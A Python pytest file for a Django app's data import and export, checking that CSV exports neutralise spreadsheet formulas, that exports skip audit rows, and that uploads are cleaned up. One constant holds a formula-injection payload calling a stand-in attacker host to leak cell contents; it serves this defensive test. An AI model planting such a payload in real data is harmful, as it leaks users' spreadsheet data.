"""Data hygiene: exports are safe to open in a spreadsheet and are logged, not audited as
writes; uploaded files do not outlive their import.

Reproduces the hardening issue's "Low" findings: ``=HYPERLINK(...)`` as a name went into the
CSV export as a live formula, uploads stayed in the temporary folder forever, and every GET of
an export wrote an audit row.
"""

from __future__ import annotations

import csv
import logging
import tempfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from broadfront.web.common.models import AuditEntry
from broadfront.web.dataio.models import ImportJob
from broadfront.web.dataio.services import UPLOAD_PREFIX, do_export, do_import, start_upload
from broadfront.web.organizations.models import Person

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def test_a_formula_in_a_name_is_exported_as_text_and_imports_back_unchanged(world, tmp_path):
    Person.objects.create(owner=world.northside, given_name=FORMULA, family_name="-Smith",
                          phone="+16125550100", email="x@example.org")
    target = tmp_path / "people.csv"
    do_export(world.ana, world.northside, target, format="csv", kind="people")
    rows = {r["email"]: r for r in csv.DictReader(target.open(encoding="utf-8"))}
    row = rows["x@example.org"]
    assert row["given_name"] == "'" + FORMULA
    assert row["family_name"] == "'-Smith"
    assert row["phone"] == "+16125550100", "a signed number is left alone"
    report = do_import(world.ana, world.northside, target, format="csv", kind="people")
    assert report.unchanged.get("person") == Person.objects.filter(owner=world.northside).count()
    assert Person.objects.get(email="x@example.org").given_name == FORMULA


def test_an_export_is_logged_and_writes_no_audit_row(world, tmp_path, caplog):
    before = AuditEntry.objects.count()
    with caplog.at_level(logging.INFO, logger="broadfront.exports"):
        do_export(world.ana, world.northside, tmp_path / "people.csv", format="csv",
                  kind="people")
    assert AuditEntry.objects.count() == before
    assert [r.getMessage() for r in caplog.records if r.name == "broadfront.exports"] == [
        "export by ana of northside: csv people, 1 records"]


def test_a_get_of_the_export_page_writes_no_audit_row(client, world):
    client.force_login(world.ana)
    before = AuditEntry.objects.count()
    response = client.get("/data/export/", {"organization": "northside", "kind": "people"})
    assert response.status_code == 200
    b"".join(response.streaming_content)
    assert AuditEntry.objects.count() == before


@pytest.fixture
def temp_folder(tmp_path, monkeypatch):
    """The temporary folder uploads wait in, watched by the test."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path


def uploads_left(folder: Path) -> list[Path]:
    return sorted(folder.glob(f"{UPLOAD_PREFIX}*"))


def test_an_upload_is_deleted_when_its_import_finishes(world, temp_folder):
    job = start_upload(world.ana, world.northside,
                       SimpleUploadedFile("people.csv", b"given_name,email\nZed,zed@example.org\n"),
                       format="csv", kind="people")
    assert job.status == ImportJob.Status.DONE
    assert uploads_left(temp_folder) == []


def test_an_upload_is_deleted_when_its_import_fails(world, temp_folder):
    job = start_upload(world.ana, world.northside,
                       SimpleUploadedFile("people.csv", b"given_name,email\nZed,nope\n"),
                       format="csv", kind="people")
    assert job.status == ImportJob.Status.FAILED
    assert uploads_left(temp_folder) == []


def test_an_upload_is_deleted_when_the_import_breaks_unexpectedly(world, temp_folder,
                                                                  monkeypatch):
    from broadfront.web.dataio.services import uploads

    def broken(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(uploads, "do_import", broken)
    job = start_upload(world.ana, world.northside,
                       SimpleUploadedFile("people.csv", b"given_name\nZed\n"),
                       format="csv", kind="people")
    assert job.status == ImportJob.Status.FAILED and "disk on fire" in job.error
    assert uploads_left(temp_folder) == []
